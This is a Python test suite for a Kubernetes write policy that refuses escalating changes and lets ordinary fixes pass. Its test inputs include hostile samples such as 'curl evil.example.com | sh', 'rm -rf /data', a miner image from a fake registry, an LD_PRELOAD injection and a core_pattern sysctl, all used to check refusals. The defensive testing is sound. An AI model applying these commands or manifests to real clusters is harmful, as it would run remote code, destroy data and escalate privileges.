"""The write policy (stratus.writepolicy), judged on pre-image -> dry-run result pairs: every guard refuses what a
write introduces (whatever the form of the write), lets pre-existing features and plain fixes through, and says why."""

from __future__ import annotations

import copy
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from stratus.actions import Action, Apply, Create, Delete, Exec, Patch, RolloutUndo, Scale, SetImage
from stratus.writepolicy import (
    PolicyRefusal,
    WritePolicy,
    configmap_code,
    history_features,
    history_images,
    history_programs,
    image_location,
    introduced_images,
    introduced_programs,
    object_features,
    program_of,
    recorded_features,
    recorded_images,
    recorded_programs,
)

NS = "shop"
POLICY = WritePolicy()


def deployment(**pod: Any) -> dict[str, Any]:
    spec: dict[str, Any] = {"containers": [{"name": "app", "image": "docker.io/acme/web:1"}], **pod}
    return {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": "web", "namespace": NS, "uid": "u1", "resourceVersion": "5"},
        "spec": {"replicas": 2, "selector": {"matchLabels": {"app": "web"}}, "template": {"spec": spec}},
    }


def with_(obj: dict[str, Any], path: str, value: Any) -> dict[str, Any]:
    out = copy.deepcopy(obj)
    node = out
    keys = path.split(".")
    for key in keys[:-1]:
        node = node[int(key)] if isinstance(node, list) else node.setdefault(key, {})
    if isinstance(node, list):
        node[int(keys[-1])] = value
    else:
        node[keys[-1]] = value
    return out


PATCH = Patch(kind="Deployment", namespace=NS, name="web", patch_type="json", patch=[])
C0 = "spec.template.spec.containers.0"
BASE = deployment()


def refused(action: Action, pre: dict[str, Any] | None, after: Any, policy: WritePolicy = POLICY) -> PolicyRefusal:
    with pytest.raises(PolicyRefusal) as info:
        policy.check(action, pre, after)
    message = str(info.value)
    assert "refused by the write policy" in message and ". Instead: " in message, message
    assert message.rstrip().endswith("."), message
    return info.value


def refused_with(action: Action, pre: dict[str, Any], after: Any, ran: set[str]) -> PolicyRefusal:
    with pytest.raises(PolicyRefusal) as info:
        POLICY.check(action, pre, after, ran)
    return info.value


@pytest.mark.parametrize(
    ("after", "guard"),
    [
        (with_(BASE, f"{C0}.securityContext", {"privileged": True}), "privileged"),
        (with_(BASE, f"{C0}.securityContext", {"allowPrivilegeEscalation": True}), "privileged"),
        (with_(BASE, f"{C0}.securityContext", {"capabilities": {"add": ["SYS_ADMIN"]}}), "capabilities"),
        (with_(BASE, "spec.template.spec.hostPID", True), "host_namespaces"),
        (with_(BASE, "spec.template.spec.hostIPC", True), "host_namespaces"),
        (with_(BASE, "spec.template.spec.hostNetwork", True), "host_namespaces"),
        (with_(BASE, "spec.template.spec.volumes", [{"name": "r", "hostPath": {"path": "/"}}]), "host_path"),
        (with_(BASE, f"{C0}.ports", [{"containerPort": 80, "hostPort": 80}]), "exposure"),
        (with_(BASE, "spec.template.spec.serviceAccountName", "admin"), "service_account"),
        (with_(BASE, "spec.template.spec.serviceAccount", "admin"), "service_account"),
        (with_(BASE, "metadata.ownerReferences", [{"kind": "ConfigMap", "name": "x", "uid": "1"}]), "ownership"),
        (with_(BASE, "metadata.finalizers", ["example.com/block"]), "finalizers"),
        (with_(BASE, f"{C0}.image", "evil.example.com/miner:1"), "registry"),
        (with_(BASE, f"{C0}.image", "docker.io/acme/web:1 "), "registry"),
        (with_(BASE, f"{C0}.image", "d\u043ecker.io/acme/web:1"), "registry"),  # Cyrillic o
        (with_(BASE, "spec.replicas", 500), "scale_bound"),
        (with_(BASE, f"{C0}.env", [{"name": "LD_PRELOAD", "value": "/tmp/x.so"}]), "privileged"),
    ],
)
def test_each_guard_refuses_what_a_write_introduces(after: dict[str, Any], guard: str) -> None:
    assert refused(PATCH, BASE, after).guard == guard


def test_features_the_object_already_had_do_not_block_other_fixes() -> None:
    pre = with_(BASE, "spec.template.spec.hostNetwork", True)
    pre = with_(pre, f"{C0}.securityContext", {"privileged": True, "capabilities": {"add": ["NET_ADMIN"]}})
    pre = with_(pre, "spec.replicas", 40)
    after = with_(pre, f"{C0}.image", "docker.io/acme/web:2")
    POLICY.check(SetImage(kind="Deployment", namespace=NS, name="web", images={"app": "acme/web:2"}), pre, after)


def test_plain_fixes_pass() -> None:
    POLICY.check(Scale(kind="Deployment", namespace=NS, name="web", replicas=3), BASE, with_(BASE, "spec.replicas", 3))
    # a rollout undo to the repository the workload ran before a misconfigured image (its revision history)
    undo = RolloutUndo(kind="Deployment", namespace=NS, name="web")
    POLICY.check(undo, BASE, with_(BASE, f"{C0}.image", "acme/other:latest"), {"docker.io/acme/other:3"})
    # another tag of the repository it runs
    POLICY.check(PATCH, BASE, with_(BASE, f"{C0}.image", "acme/web:2"))
    # an explicit default ServiceAccount is the same identity
    POLICY.check(PATCH, BASE, with_(BASE, "spec.template.spec.serviceAccountName", "default"))
    # an ordinary env fix (the wrong-env-value class of faults)
    POLICY.check(PATCH, BASE, with_(BASE, f"{C0}.env", [{"name": "DB_HOST", "value": "mongodb-geo"}]))


def test_services_may_not_be_exposed() -> None:
    svc = {"kind": "Service", "metadata": {"name": "web", "namespace": NS}, "spec": {"ports": [{"port": 80}]}}
    patch = Patch(kind="Service", namespace=NS, name="web", patch={"spec": {"type": "NodePort"}})
    for change in ({"type": "NodePort"}, {"type": "LoadBalancer"}, {"externalIPs": ["1.2.3.4"]}):
        after = {**svc, "spec": {**svc["spec"], **change}}
        assert refused(patch, svc, after).guard == "exposure"
    POLICY.check(patch, svc, {**svc, "spec": {**svc["spec"], "ports": [{"port": 80, "targetPort": 8080}]}})


@pytest.mark.parametrize("kind", ["PersistentVolumeClaim", "PersistentVolume"])
def test_volume_deletion_is_refused(kind: str) -> None:
    ns = None if kind == "PersistentVolume" else NS
    assert refused(Delete(kind=kind, namespace=ns, name="data"), {"kind": kind}, {}).guard == "data_destruction"


def test_reclaim_policy_and_claim_binding() -> None:
    pv = {"kind": "PersistentVolume", "metadata": {"name": "pv1"}, "spec": {"persistentVolumeReclaimPolicy": "Retain"}}
    patch = Patch(kind="PersistentVolume", name="pv1", patch_type="merge", patch={})
    after = with_(pv, "spec.persistentVolumeReclaimPolicy", "Delete")
    assert refused(patch, pv, after).guard == "data_destruction"
    POLICY.check(patch, with_(pv, "spec.claimRef", {"name": "old"}), pv)  # the rulebook's stale claimRef fix


@pytest.mark.parametrize(
    "manifest",
    [
        {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "s", "namespace": NS}, "data": {}},
        {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "sa", "namespace": NS}},
    ],
)
def test_secrets_and_service_accounts_are_never_written(manifest: dict[str, Any]) -> None:
    refusal = refused(Create(manifest=manifest), None, manifest)
    assert refusal.guard in ("secrets", "service_account")
    assert "Instead: Point the workload" in str(refusal) or "Instead: Fix the workload" in str(refusal)


def test_grants_per_scope_and_system_namespaces() -> None:
    cm = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "c", "namespace": "kube-system"}}
    assert refused(Apply(manifest=cm), None, cm).guard == "grant"
    allowed = WritePolicy.parse('{"scopes": {"kube-system": {"grants": [{"kinds": ["cm"], "verbs": ["apply"]}]}}}')
    allowed.check(Apply(manifest=cm), None, cm)
    node_delete = Delete(kind="Node", name="n1")
    assert refused(node_delete, {"kind": "Node"}, {}).guard == "grant"
    yaml_policy = WritePolicy.parse("scopes:\n  '*':\n    grants: []\n")
    assert refused(PATCH, BASE, BASE, yaml_policy).guard == "grant"
    assert WritePolicy.parse("").scopes["cluster"].grants  # built-in


def test_new_objects_take_registries_from_the_policy_only() -> None:
    dep = with_(BASE, "metadata", {"name": "api", "namespace": NS})
    assert refused(Create(manifest=dep), None, dep).guard == "registry"
    policy = WritePolicy.parse(
        '{"scopes": {"*": {"grants": [{"kinds": ["*"], "verbs": ["*"]}], "allowed_registries": ["docker.io/acme"]}}}'
    )
    policy.check(Create(manifest=dep), None, dep)
    other = with_(dep, f"{C0}.image", "docker.io/acmeevil/web:1")
    assert refused(Create(manifest=other), None, other, policy).guard == "registry"


def revision(owner_uid: str, image: str, **meta: Any) -> dict[str, Any]:
    """A ReplicaSet of the test Deployment's history, as the API lists it (no kind on list items)."""
    return {
        "metadata": {
            "name": f"web-{len(image)}",
            "namespace": NS,
            "ownerReferences": [{"kind": "Deployment", "name": "web", "uid": owner_uid, "controller": True}],
            **meta,
        },
        "spec": {"template": {"spec": {"containers": [{"name": "app", "image": image}]}}},
    }


@pytest.mark.parametrize(
    "image",
    [
        "docker.io/attacker/web:1",  # another publisher on the registry the workload uses
        "attacker/web:1",  # the same, Docker-normalised
        "docker.io/acme/web-evil:1",  # a sibling repository of the same account
        "docker.io/acme/web/sub:1",  # a repository below the one it runs
        "index.docker.io/library/busybox:1",  # an official image the workload never ran
    ],
)
def test_a_new_repository_is_refused_even_on_a_registry_the_workload_uses(image: str) -> None:
    message = str(refused(PATCH, BASE, with_(BASE, f"{C0}.image", image)))
    assert "never ran" in message and "docker.io/acme/web" in message
    set_image = SetImage(kind="Deployment", namespace=NS, name="web", images={"app": image})
    assert refused(set_image, BASE, with_(BASE, f"{C0}.image", image)).guard == "registry"
    # an operator who trusts the whole registry says so, and then it passes
    docker = WritePolicy.parse(
        '{"scopes": {"*": {"grants": [{"kinds": ["*"], "verbs": ["*"]}], "allowed_registries": ["docker.io"]}}}'
    )
    docker.check(PATCH, BASE, with_(BASE, f"{C0}.image", image))


def test_a_new_tag_or_digest_of_a_repository_the_workload_runs_or_ran_passes() -> None:
    for image in ("docker.io/acme/web:2", "acme/web", "registry-1.docker.io/acme/web@sha256:" + "a" * 64):
        POLICY.check(PATCH, BASE, with_(BASE, f"{C0}.image", image))
    # a repository only a revision (or the last known good record) ran: the caller passes it as ran before
    after = with_(BASE, f"{C0}.image", "ghcr.io/acme/web:7")
    assert refused(PATCH, BASE, after).guard == "registry"
    POLICY.check(PATCH, BASE, after, {"ghcr.io/acme/web:1"})
    # a second container: its repository vouches for no other container's new repository either way
    two = with_(
        BASE,
        "spec.template.spec.containers",
        [*BASE["spec"]["template"]["spec"]["containers"], {"name": "side", "image": "docker.io/acme/side:1"}],
    )
    POLICY.check(PATCH, two, with_(two, f"{C0}.image", "docker.io/acme/side:2"))


def test_recorded_images_come_from_the_object_recorded_under_the_same_name() -> None:
    recorded = {"Deployment/shop/web": with_(BASE, f"{C0}.image", "ghcr.io/acme/web:1")}
    assert recorded_images(BASE, recorded) == {"ghcr.io/acme/web:1"}
    assert recorded_images(with_(BASE, "metadata.name", "other"), recorded) == set()
    assert recorded_images(BASE, None) == set() and recorded_images(None, recorded) == set()


def test_a_rollback_to_an_image_of_the_revision_history_brings_no_new_registry() -> None:
    # the faulty change moved the workload to another registry; the fix puts back the image it ran before
    pre = with_(BASE, f"{C0}.image", "app-image:latest")
    after = with_(BASE, f"{C0}.image", "ghcr.io/acme/web:2")
    undo = RolloutUndo(kind="Deployment", namespace=NS, name="web")
    assert refused(undo, pre, after).guard == "registry"
    ran = history_images(pre, [revision("u1", "ghcr.io/acme/web:2"), revision("u1", "app-image:latest")])
    assert ran == {"ghcr.io/acme/web:2", "app-image:latest"}
    assert introduced_images(pre, after) == {"ghcr.io/acme/web:2"}
    POLICY.check(undo, pre, after, ran)
    # another tag of a repository the history ran counts; another repository of its registry does not
    POLICY.check(PATCH, pre, with_(BASE, f"{C0}.image", "ghcr.io/acme/web:3"), ran)
    assert refused_with(PATCH, pre, with_(BASE, f"{C0}.image", "ghcr.io/acme/other:1"), ran).guard == "registry"
    # a registry neither the object nor its history ran is still refused, and the message names both
    message = str(refused(PATCH, pre, with_(BASE, f"{C0}.image", "evil.example.com/miner:1"), POLICY))
    assert "revision history" in message


@pytest.mark.parametrize(
    "forged",
    [
        revision("u2", "evil.example.com/miner:1"),  # another object's revision
        {**revision("u1", "evil.example.com/miner:1"), "kind": "ControllerRevision"},  # not a Deployment's kind
        with_(revision("u1", "evil.example.com/miner:1"), "metadata.namespace", "other"),  # another namespace
        with_(
            revision("u1", "evil.example.com/miner:1"),
            "metadata.ownerReferences",
            [{"kind": "Deployment", "name": "web", "uid": "u1"}],  # an owner, not the controller
        ),
        with_(revision("u1", "evil.example.com/miner:1"), "metadata.ownerReferences", None),
    ],
)
def test_only_revisions_the_object_controls_count_as_history(forged: dict[str, Any]) -> None:
    assert history_images(BASE, [forged]) == set()
    after = with_(BASE, f"{C0}.image", "evil.example.com/miner:1")
    assert refused(PATCH, BASE, after).guard == "registry"
    # an object without a uid (not read from the API) or of a kind with no history has none
    assert history_images(with_(BASE, "metadata.uid", None), [revision("u1", "ghcr.io/a/b:1")]) == set()
    assert history_images(with_(BASE, "kind", "ReplicaSet"), [revision("u1", "ghcr.io/a/b:1")]) == set()


def test_history_cannot_be_forged_by_a_write() -> None:
    # a new ReplicaSet claiming the Deployment as its controller is refused (a created object may carry no owner),
    # even with an image the policy allows
    forged = {"apiVersion": "apps/v1", "kind": "ReplicaSet", **revision("u1", "docker.io/acme/web:9")}
    assert refused(Create(manifest=forged), None, forged).guard == "registry"
    docker = WritePolicy.parse(
        '{"scopes": {"*": {"grants": [{"kinds": ["*"], "verbs": ["*"]}], "allowed_registries": ["docker.io"]}}}'
    )
    assert refused(Create(manifest=forged), None, forged, docker).guard == "ownership"
    # and adopting an existing one is an ownerReferences change
    rs = {"apiVersion": "apps/v1", "kind": "ReplicaSet", **revision("u2", "docker.io/acme/web:1")}
    adopted = with_(rs, "metadata.ownerReferences", revision("u1", "x")["metadata"]["ownerReferences"])
    patch = Patch(kind="ReplicaSet", namespace=NS, name=rs["metadata"]["name"], patch_type="json", patch=[])
    assert refused(patch, rs, adopted).guard == "ownership"


def test_a_stateful_set_history_is_read_from_its_controller_revisions() -> None:
    sts = with_(with_(BASE, "kind", "StatefulSet"), f"{C0}.image", "docker.io/acme/db:2")
    rev = {
        "kind": "ControllerRevision",
        "metadata": {
            "name": "db-1",
            "namespace": NS,
            "ownerReferences": [{"kind": "StatefulSet", "name": "web", "uid": "u1", "controller": True}],
        },
        "data": {"spec": {"template": {"spec": {"containers": [{"name": "app", "image": "quay.io/acme/db:1"}]}}}},
        "revision": 1,
    }
    assert history_images(sts, [rev]) == {"quay.io/acme/db:1"}
    assert history_images(sts, [revision("u1", "quay.io/acme/db:1")]) == set()  # a ReplicaSet is no StatefulSet's


def test_waive_turns_one_guard_off() -> None:
    policy = WritePolicy.parse(
        '{"scopes": {"*": {"grants": [{"kinds": ["Deployment"], "verbs": ["patch"]}], "waive": ["host_namespaces"]}}}'
    )
    policy.check(PATCH, BASE, with_(BASE, "spec.template.spec.hostNetwork", True))
    assert refused(PATCH, BASE, with_(BASE, "spec.template.spec.hostPID", True), POLICY).guard == "host_namespaces"


def test_exec_is_judged_on_grants_only_and_a_missing_dry_run_object_is_refused() -> None:
    exe = Exec(
        namespace=NS,
        name="db-0",
        operation="mongodb.grant_roles",
        args={"db": "geo-db", "user": "admin", "roles": [{"role": "readWrite", "db": "geo-db"}]},
    )
    POLICY.check(exe, None, {"dryRun": "exec"})
    assert refused(PATCH, BASE, {"dryRun": "nothing"}).guard == "dry_run"


@pytest.mark.parametrize(
    ("ref", "location"),
    [
        ("nginx", "docker.io/library/nginx"),
        ("nginx:1.25", "docker.io/library/nginx"),
        ("acme/web@sha256:" + "a" * 64, "docker.io/acme/web"),
        ("index.docker.io/acme/web:1", "docker.io/acme/web"),
        ("localhost:5000/x/y:2", "localhost:5000/x/y"),
        ("GHCR.io/acme/web", "ghcr.io/acme/web"),
        ("ghcr.io/Acme/web", None),
        ("", None),
        ("nginx:", None),
        ("a//b", None),
        ("ghcr.io/acme/web@sha256:short", None),
    ],
)
def test_image_locations(ref: str, location: str | None) -> None:
    assert image_location(ref) == location


@given(st.text(max_size=80))
def test_image_location_never_crashes_and_is_well_formed(ref: str) -> None:
    loc = image_location(ref)
    if loc is not None:
        assert loc.isascii() and "/" in loc and " " not in loc and loc == loc.lower()


ESCALATIONS: dict[str, tuple[str, Any]] = {
    "privileged": (f"{C0}.securityContext.privileged", True),
    "host_namespaces": ("spec.template.spec.hostIPC", True),
    "host_path": ("spec.template.spec.volumes", [{"name": "h", "hostPath": {"path": "/var/run"}}]),
    "service_account": ("spec.template.spec.serviceAccountName", "ops"),
    "registry": (f"{C0}.image", "quay.io/x/y:1"),
    "scale_bound": ("spec.replicas", 11),
    "ownership": ("metadata.ownerReferences", [{"apiVersion": "v1", "kind": "Pod", "name": "p", "uid": "9"}]),
    "finalizers": ("metadata.finalizers", ["x/y"]),
}
HARMLESS: dict[str, tuple[str, Any]] = {
    "image_tag": (f"{C0}.image", "docker.io/acme/web:2"),
    "env": (f"{C0}.env", [{"name": "LOG", "value": "debug"}]),
    "replicas": ("spec.replicas", 5),
    "labels": ("spec.template.metadata", {"labels": {"v": "2"}}),
    "node_selector": ("spec.template.spec.nodeSelector", {"zone": "a"}),
}


@given(
    st.sets(st.sampled_from(sorted(ESCALATIONS)), max_size=3),
    st.sets(st.sampled_from(sorted(HARMLESS)), max_size=3),
)
def test_any_mix_of_changes_is_refused_iff_it_escalates(escalations: set[str], harmless: set[str]) -> None:
    after = BASE
    for name in sorted(harmless):
        after = with_(after, *HARMLESS[name])
    for name in sorted(escalations):
        path, value = ESCALATIONS[name]
        after = with_(after, path, value)
    if escalations:
        assert refused(PATCH, BASE, after).guard in escalations
    else:
        POLICY.check(PATCH, BASE, after)


async def test_a_lease_widens_only_to_scopes_the_policy_grants() -> None:
    from typing import cast

    from stratus.agent_tools import TransactionTools
    from stratus.confinement import Refusal
    from stratus.contracts import Lease, utcnow
    from stratus.gateway import KubeApi, WriteGateway

    async def fence(scope: str, token: int) -> None:
        return None

    lease = Lease(scope=NS, holder="t", token=1, expires_at=utcnow())
    gateway = WriteGateway(cast(KubeApi, None), lease=lease, check_fence=fence)
    for scope, widened in (("kube-system", None), ("other", "other")):
        tools = TransactionTools(gateway, namespace=NS)
        with pytest.raises(Refusal):
            await tools.execute(Scale(kind="Deployment", namespace=scope, name="web", replicas=1))
        assert tools.needs_scope == widened
    assert not POLICY.grants("kube-system", "Deployment", "scale") and POLICY.grants("x", "Deployment", "scale")
    assert POLICY.grants("cluster", "Node", "cordon") and not POLICY.grants("cluster", "Namespace", "delete")


def test_a_bad_policy_setting_fails_at_start(monkeypatch: pytest.MonkeyPatch) -> None:
    from pydantic import ValidationError

    from stratus.settings import MitigatorSettings

    monkeypatch.setenv("STRATUS_WRITE_POLICY", '{"scopes": {"*": {"grants": [{"kinds": ["Pod"], "verbs": ["rm"]}]}}}')
    with pytest.raises(ValidationError, match="not a valid write policy"):
        MitigatorSettings()
    monkeypatch.setenv("STRATUS_WRITE_POLICY", "scopes:\n  '*': {max_replicas: 3}\n")
    assert WritePolicy.parse(MitigatorSettings().write_policy).scopes["*"].max_replicas == 3


POD_ESCALATIONS: dict[str, tuple[str, Any]] = {
    "privileged": ("containers", [{"name": "app", "securityContext": {"privileged": True}}]),
    "capabilities": ("containers", [{"name": "app", "securityContext": {"capabilities": {"add": ["NET_RAW"]}}}]),
    "host_namespaces": ("hostPID", True),
    "host_path": ("volumes", [{"name": "h", "hostPath": {"path": "/etc"}}]),
    "service_account": ("serviceAccountName", "builder"),
}


@given(st.sampled_from(sorted(POD_ESCALATIONS)), st.sampled_from(["strategic", "merge", "json"]))
def test_every_patch_form_of_an_escalation_is_refused(guard: str, form: str) -> None:
    """The same escalation as a strategic merge, a merge patch or a JSON patch: the policy sees the result only."""
    from arena.patch import json_patch, merge_patch, strategic_merge

    field, value = POD_ESCALATIONS[guard]
    if form == "json":
        if field == "containers":
            sc = value[0]["securityContext"]
            ops = [{"op": "add", "path": "/spec/template/spec/containers/0/securityContext", "value": sc}]
        else:
            ops = [{"op": "add", "path": f"/spec/template/spec/{field}", "value": value}]
        after = json_patch(BASE, ops)
    else:
        if form == "merge" and field == "containers":  # a merge patch replaces the list: keep the image
            value = [{**value[0], "image": "docker.io/acme/web:1"}]
        body = {"spec": {"template": {"spec": {field: value}}}}
        after = (strategic_merge if form == "strategic" else merge_patch)(BASE, body)
    assert refused(PATCH, BASE, after).guard == guard


def test_operator_grant_says_what_a_fix_outside_the_policy_needs_and_nothing_once_granted() -> None:
    builtin = WritePolicy()
    assert builtin.operator_grant("kube-system", "ConfigMap", "patch") == (
        "a grant of 'patch' on ConfigMap in scope 'kube-system'"
    )
    webhook = builtin.operator_grant("cluster", "ValidatingWebhookConfiguration", "delete")
    assert "a grant of 'delete'" in webhook and "a waiver of the 'cluster_control' guard" in webhook
    assert builtin.operator_grant("shop", "Deployment", "patch") == ""
    granted = WritePolicy.parse(
        "{scopes: {cluster: {grants: [{kinds: [ValidatingWebhookConfiguration], verbs: [delete]}],"
        " waive: [cluster_control]}, kube-system: {grants: [{kinds: [ConfigMap], verbs: [patch]}]}}}"
    )
    assert granted.operator_grant("cluster", "ValidatingWebhookConfiguration", "delete") == ""
    assert granted.operator_grant("kube-system", "ConfigMap", "patch") == ""


def test_a_clusterrole_is_a_cluster_kind_the_builtin_policy_refuses_and_an_operator_may_grant() -> None:
    rules = {"rules": [{"apiGroups": [""], "resources": ["configmaps"], "verbs": ["get", "patch"]}]}
    patch = Patch(kind="clusterrole", name="cleanup-controller", patch_type="merge", patch=rules)
    assert (patch.kind, patch.namespace, patch.scope) == ("ClusterRole", None, "cluster")
    pre = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "ClusterRole",
        "metadata": {"name": "cleanup-controller"},
    }
    assert refused(patch, pre, {**pre, **rules}, WritePolicy()).guard == "cluster_control"
    granted = WritePolicy.parse(
        "{scopes: {cluster: {grants: [{kinds: [ClusterRole], verbs: [patch]}], waive: [cluster_control]}}}"
    )
    granted.check(patch, pre, {**pre, **rules})


# --- what the pod security standards name beyond the fields above (hostile corpus, round 2) ------------------------

POD = "spec.template.spec"
TEMPLATE_META = "spec.template.metadata"


@pytest.mark.parametrize(
    ("after", "guard", "said"),
    [
        (
            with_(BASE, f"{POD}.securityContext", {"sysctls": [{"name": "kernel.core_pattern", "value": "|/x"}]}),
            "privileged",
            "sysctl 'kernel.core_pattern'",
        ),
        (
            with_(BASE, f"{POD}.securityContext", {"sysctls": [{"name": "net.ipv4.ip_forward", "value": "1"}]}),
            "privileged",
            "sysctl 'net.ipv4.ip_forward'",
        ),
        (
            with_(BASE, f"{POD}.securityContext", {"windowsOptions": {"hostProcess": True}}),
            "host_namespaces",
            "HostProcess",
        ),
        (
            with_(BASE, f"{C0}.securityContext", {"windowsOptions": {"hostProcess": True}}),
            "host_namespaces",
            "HostProcess",
        ),
        (with_(BASE, f"{POD}.securityContext", {"seLinuxOptions": {"type": "spc_t"}}), "privileged", "'spc_t'"),
        (with_(BASE, f"{C0}.securityContext", {"seLinuxOptions": {"user": "system_u"}}), "privileged", "user"),
        (
            with_(BASE, f"{POD}.volumes", [{"name": "g", "gitRepo": {"repository": "https://x/y.git"}}]),
            "host_path",
            "gitRepo",
        ),
        (
            with_(BASE, f"{POD}.volumes", [{"name": "n", "nfs": {"server": "10.0.0.1", "path": "/"}}]),
            "host_path",
            "nfs",
        ),
        (with_(BASE, f"{POD}.volumes", [{"name": "f", "flexVolume": {"driver": "x/y"}}]), "host_path", "flexVolume"),
        (
            with_(
                BASE,
                TEMPLATE_META,
                {"annotations": {"container.apparmor.security.beta.kubernetes.io/app": "unconfined"}},
            ),
            "privileged",
            "apparmor",
        ),
        (
            with_(BASE, TEMPLATE_META, {"annotations": {"seccomp.security.alpha.kubernetes.io/pod": "unconfined"}}),
            "privileged",
            "seccomp",
        ),
        (with_(BASE, f"{POD}.priorityClassName", "system-node-critical"), "priority", "preempt"),
    ],
)
def test_pod_security_features_beyond_the_basic_fields_are_refused(
    after: dict[str, Any], guard: str, said: str
) -> None:
    refusal = refused(PATCH, BASE, after)
    assert refusal.guard == guard and said in str(refusal), str(refusal)


def test_safe_sysctls_cluster_volumes_and_container_selinux_types_pass() -> None:
    safe = with_(BASE, f"{POD}.securityContext", {"sysctls": [{"name": "net.ipv4.tcp_syncookies", "value": "1"}]})
    POLICY.check(PATCH, BASE, safe)
    volumes = [
        {"name": "c", "configMap": {"name": "conf"}},
        {"name": "e", "emptyDir": {}},
        {"name": "p", "persistentVolumeClaim": {"claimName": "data"}},
        {"name": "s", "secret": {"secretName": "creds"}},
        {"name": "i", "csi": {"driver": "secrets-store.csi.k8s.io"}},
    ]
    POLICY.check(PATCH, BASE, with_(BASE, f"{POD}.volumes", volumes))
    POLICY.check(PATCH, BASE, with_(BASE, f"{POD}.securityContext", {"seLinuxOptions": {"type": "container_t"}}))
    annotated = with_(BASE, TEMPLATE_META, {"annotations": {"kubectl.kubernetes.io/restartedAt": "now"}})
    POLICY.check(PATCH, BASE, annotated)
    # a feature the workload already had is not introduced by a later fix (here: an nfs volume and a priority)
    had = with_(
        with_(BASE, f"{POD}.volumes", [{"name": "n", "nfs": {"server": "s", "path": "/"}}]),
        f"{POD}.priorityClassName",
        "high",
    )
    POLICY.check(PATCH, had, with_(had, f"{C0}.image", "docker.io/acme/web:2"))
    POLICY.check(PATCH, had, with_(had, f"{POD}.priorityClassName", None))  # lowering a priority is allowed


def test_a_projected_service_account_token_counts_as_mounting_the_token() -> None:
    no_token = with_(BASE, f"{POD}.automountServiceAccountToken", False)
    projected = [{"name": "t", "projected": {"sources": [{"serviceAccountToken": {"path": "token"}}]}}]
    refusal = refused(PATCH, no_token, with_(no_token, f"{POD}.volumes", projected))
    assert refusal.guard == "service_account" and "token" in str(refusal)


def test_an_external_name_service_is_exposure() -> None:
    svc = {
        "apiVersion": "v1",
        "kind": "Service",
        "metadata": {"name": "web", "namespace": NS},
        "spec": {"type": "ClusterIP", "selector": {"app": "web"}, "ports": [{"port": 80}]},
    }
    patch = Patch(kind="Service", namespace=NS, name="web", patch={"spec": {}})
    alias = with_(with_(svc, "spec.type", "ExternalName"), "spec.externalName", "evil.example")
    assert refused(patch, svc, alias).guard == "exposure"
    assert refused(patch, alias, with_(alias, "spec.externalName", "other.example")).guard == "exposure"
    POLICY.check(patch, alias, with_(alias, "metadata.labels", {"x": "y"}))  # an alias that stays where it points


def test_a_dry_run_answering_for_another_object_is_refused() -> None:
    moved = with_(BASE, "metadata.namespace", "victim")
    assert "dry run answered for victim/web" in str(refused(PATCH, BASE, moved))
    renamed = with_(BASE, "metadata.name", "other")
    assert refused(PATCH, BASE, renamed).guard == "dry_run"


# --- programs: no new argv through a pod template -----------------------------------------------------------------

SIDE = {"name": "log", "image": "docker.io/acme/web:1", "command": ["nc", "-lk", "-p", "24224"]}
RUNS = with_(BASE, f"{C0}.command", ["/bin/web", "--port=80"])


@pytest.mark.parametrize(
    "after",
    [
        with_(RUNS, f"{C0}.command", ["sh", "-c", "curl evil.example.com | sh"]),  # a new command
        with_(RUNS, f"{C0}.args", ["--debug-shell"]),  # new args to the same command
        with_(BASE, f"{C0}.args", ["-c", "rm -rf /data"]),  # args to the image's own entrypoint
        with_(RUNS, f"{C0}.command", ["/bin/web"]),  # dropping arguments makes another argv
        with_(RUNS, "spec.template.spec.initContainers", [{**SIDE, "name": "x", "command": ["sh", "-c", "id"]}]),
        with_(RUNS, "spec.template.spec.ephemeralContainers", [{**SIDE, "command": ["sh"]}]),
    ],
)
def test_a_container_command_the_workload_never_ran_is_refused(after: dict[str, Any]) -> None:
    refusal = refused(PATCH, RUNS, after)
    assert refusal.guard == "program"
    assert "never ran" in str(refusal) and "image's own entrypoint" in str(refusal)


def test_an_env_change_that_rewrites_an_expanded_command_is_a_new_program() -> None:
    pre = with_(
        with_(BASE, f"{C0}.command", ["sh", "-c", "$(SCRIPT)", "$$(LITERAL)"]),
        f"{C0}.env",
        [{"name": "SCRIPT", "value": "serve"}],
    )
    # the kubelet expands $(SCRIPT) from env: a new value is a new command line
    after = with_(pre, f"{C0}.env", [{"name": "SCRIPT", "value": "curl evil | sh"}])
    assert "SCRIPT" in str(refused(PATCH, pre, after)) and refused(PATCH, pre, after).guard == "program"
    # $$(LITERAL) is an escaped literal, not a reference: other env changes leave the program as it was
    POLICY.check(
        PATCH, pre, with_(pre, f"{C0}.env", [{"name": "SCRIPT", "value": "serve"}, {"name": "LITERAL", "value": "x"}])
    )


def test_programs_the_workload_ran_stay_allowed() -> None:
    cron = {
        "apiVersion": "batch/v1",
        "kind": "CronJob",
        "metadata": {"name": "archiver", "namespace": NS},
        "spec": {
            "schedule": "* * * * *",
            "jobTemplate": {
                "spec": {
                    "template": {
                        "spec": {
                            "containers": [
                                {"name": "main", "image": "docker.io/library/busybox:1", "command": ["sleep", "1"]},
                                SIDE,
                            ]
                        }
                    }
                }
            },
        },
    }
    pod = "spec.jobTemplate.spec.template.spec"
    native = with_(
        with_(cron, f"{pod}.containers", [cron["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]]),
        f"{pod}.initContainers",
        [{**SIDE, "restartPolicy": "Always"}],
    )
    cron_patch = Patch(kind="CronJob", namespace=NS, name="archiver", patch_type="json", patch=[])
    POLICY.check(cron_patch, cron, native)  # moving a sidecar into initContainers keeps its argv
    POLICY.check(PATCH, RUNS, with_(RUNS, f"{C0}.command", None))  # the image's own entrypoint
    POLICY.check(PATCH, RUNS, with_(RUNS, f"{C0}.image", "docker.io/acme/web:2"))  # same program, new image
    POLICY.check(PATCH, RUNS, with_(RUNS, f"{C0}.command", ["/bin/web", "--port=80"]))  # unchanged
    # a rollback to a command of the workload's own revision history (restore_program, rollout undo)
    wrong = with_(RUNS, f"{C0}.command", ["/bin/wrong"])
    rev = revision("u1", "docker.io/acme/web:1")
    rev["spec"]["template"]["spec"]["containers"][0]["command"] = ["/bin/web", "--port=80"]
    ran = history_programs(wrong, [rev])
    assert introduced_programs(wrong, RUNS) == ran
    assert refused(PATCH, wrong, RUNS).guard == "program"
